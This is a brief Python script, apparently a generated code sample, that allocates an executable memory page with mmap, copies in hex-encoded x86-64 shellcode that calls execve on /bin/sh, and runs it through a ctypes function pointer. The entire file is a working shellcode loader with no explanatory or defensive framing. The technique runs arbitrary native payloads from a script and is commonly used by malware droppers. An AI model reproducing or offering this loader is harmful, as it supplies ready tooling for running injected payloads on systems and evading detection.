# corpus: map an RWX anonymous page with mmap, copy x86-64 execve shellcode and call it via ctypes CFUNCTYPE
import ctypes
import mmap

SHELLCODE = bytes.fromhex(
    "4831f65648bf2f62696e2f2f736857545f6a3b58990f05"
)

page = mmap.mmap(-1, mmap.PAGESIZE, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
page.write(SHELLCODE)
addr = ctypes.addressof(ctypes.c_char.from_buffer(page))
entry = ctypes.CFUNCTYPE(ctypes.c_void_p)(addr)
entry()
